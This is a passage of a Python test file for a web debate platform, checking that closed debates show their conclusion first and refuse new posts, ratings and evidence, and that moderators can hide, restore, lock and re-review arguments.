    response = owner.post("/notifications/read")

    assert response.status_code == 303
    assert notifications_link(owner.get("/").text) == "Notifications"
    assert "unread" not in owner.get("/notifications").text
    assert count(app, Notification, Notification.read_at.is_(None)) == 0


# Closing with a conclusion


def test_closing_with_a_conclusion_shows_it_first_and_makes_the_debate_read_only(app):
    w = build(app)
    conclusion = "Cameras help at stations; elsewhere oversight matters more."

    response = client_of(app, w["owner"]).post(
        f"/debates/{w['debate']}/status", data={"status": "closed", "conclusion": conclusion}
    )

    assert response.status_code == 303
    page = client_of(app).get(f"/debates/{w['debate']}").text
    assert -1 < page.find(conclusion) < page.find("<h1>")
    participant = client_of(app, w["participant"])
    refusals = {
        "posting": post_argument(participant, w, "Posted after closing"),
        "rating": participant.post(f"/arguments/{w['shown']}/rating", data={"score": "3"}),
        "stance": participant.post(f"/positions/{w['position']}/stance", data={"stance": "for"}),
        "evidence": participant.post(
            f"/arguments/{w['shown']}/evidence/new",
            data={"kind": "news", "url": "https://example.org/late", "title": "Late source",
                  "passage": "0"},
        ),
    }
    assert {name: r.status_code for name, r in refusals.items()} == {
        "posting": 409, "rating": 403, "stance": 403, "evidence": 403}
    for name, refused in refusals.items():
        assert "closed" in refused.text, name
    assert "This debate is closed; it no longer takes arguments." in refusals["posting"].text
    assert count(app, Argument) == 1
    assert count(app, Rating) == 0
    assert count(app, PositionStance) == 0
    assert count(app, Evidence) == 0


def test_closing_without_a_conclusion_is_refused_beside_the_field(app):
    w = build(app)

    response = client_of(app, w["owner"]).post(
        f"/debates/{w['debate']}/status", data={"status": "closed", "conclusion": "  "}
    )

    assert response.status_code == 422
    message = "Write the conclusion people will read first."
    assert field_error(response.text, "conclusion") == message
    with app.app_context():
        assert db.session.get(Debate, w["debate"]).status == DebateStatus.OPEN
    assert count(app, ModerationAction) == 0


def test_a_moderator_restores_a_hidden_argument_from_its_own_page(app):
    w = build(app)
    moderator = client_of(app, w["moderator"])
    assert act(moderator, w, w["shown"], "hide", "Off-topic here").status_code == 303
    assert f'id="queue-argument-{w["shown"]}"' not in moderator.get(
        f"/debates/{w['debate']}/queue"
    ).text

    page = moderator.get(f"/arguments/{w['shown']}").text
    assert "Moderate this argument" in page
    assert 'value="restore"' in page and 'value="hide"' not in page

    restored = moderator.post(
        f"/debates/{w['debate']}/queue/argument/{w['shown']}",
        data={"action": "restore", "reason": "On reflection it is on topic", "next": "item"},
    )

    assert restored.status_code == 303
    assert restored.headers["Location"] == f"/arguments/{w['shown']}"
    assert state_of(app, Argument, w["shown"]) == ModerationState.VISIBLE
    assert SHOWN_CLAIM in client_of(app).get(position_url(w)).text


def test_participants_see_no_moderation_controls_on_an_argument(app):
    w = build(app)

    page = client_of(app, w["participant"]).get(f"/arguments/{w['shown']}").text

    assert "Moderate this argument" not in page


def test_editing_an_approved_argument_in_a_premoderated_debate_sends_it_back_for_review(app):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    author = client_of(app, w["author"])
    post_argument(author, w, "Audits should be published every year")
    argument_id = argument_by_claim(app, "Audits should be published every year").id
    assert act(client_of(app, w["moderator"]), w, argument_id, "approve").status_code == 303

    author.post(
        f"/arguments/{argument_id}/edit",
        data={"claim": "Something entirely different now", "body": ""},
    )

    assert state_of(app, Argument, argument_id) == ModerationState.PENDING
    assert "Something entirely different now" not in client_of(app).get(position_url(w)).text


def test_evidence_cannot_be_added_anywhere_under_a_locked_branch(app):
    w = build(app)
    author = client_of(app, w["author"])
    post_argument(author, w, "A reply deep in the branch", parent=w["shown"], side="con")
    child_id = argument_by_claim(app, "A reply deep in the branch").id
    assert act(client_of(app, w["moderator"]), w, w["shown"], "lock").status_code == 303

    response = author.post(
        f"/arguments/{child_id}/evidence/new",
        data={"kind": "research", "url": "https://example.org/study", "title": "A study"},
    )

    assert response.status_code == 409
    assert count(app, Evidence) == 0
